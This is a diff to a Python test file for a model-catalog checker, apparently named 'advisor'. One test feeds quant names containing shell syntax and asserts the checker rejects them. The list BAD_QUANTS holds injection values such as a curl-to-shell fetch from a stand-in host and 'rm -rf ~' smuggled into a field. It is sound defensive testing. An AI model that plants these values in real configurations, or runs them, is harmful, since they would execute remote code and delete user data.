@@ -47,7 +47,8 @@ BAD_QUANTS = ["mlx-$(curl -s evil.sh|sh)", "mlx-`id`;rm -rf ~", "mlx-x\\nrm -rf 
 
 @pytest.mark.parametrize("quant", BAD_QUANTS, ids=[ascii(q) for q in BAD_QUANTS])
 def test_quant_names_with_shell_syntax_are_located_errors(tmp_path: Path, quant: str) -> None:
-    text = BASE.replace("\n[models.config]", '\n[[models.quantized]]\nrepo = "acme/qwen3-8b-ft-gguf"\n'
+    text = BASE.replace("\n[models.config]",
+                        '\n[[models.quantized]]\nrepo = "acme/qwen3-8b-ft-gguf"\n'
                         f'quants = ["q4_k_m", "{quant}"]\n\n[models.config]', 1)
     result = check(catalog(tmp_path, text))
     assert result.exit_code == 1, result.stdout
@@ -56,3 +57,16 @@ def test_quant_names_with_shell_syntax_are_located_errors(tmp_path: Path, quant:
 
 def test_the_base_fixture_itself_is_fine(tmp_path: Path) -> None:
     assert check(catalog(tmp_path, BASE)).exit_code == 0
+
+
+def test_advisor_debug_zero_means_off(tmp_path: Path) -> None:
+    """K3: ADVISOR_DEBUG=0 printed tracebacks; it is read as a boolean now."""
+    import os
+    import subprocess
+    import sys
+
+    env = {**os.environ, "ADVISOR_DEBUG": "0", "ADVISOR_CACHE_DIR": str(tmp_path)}
+    bad = catalog(tmp_path, "x = " + "[" * 2000)
+    out = subprocess.run([sys.executable, "-m", "advisor", "catalog", "check", str(bad)],
+                         capture_output=True, text=True, env=env, timeout=60)
+    assert out.returncode == 1 and "Traceback" not in out.stderr
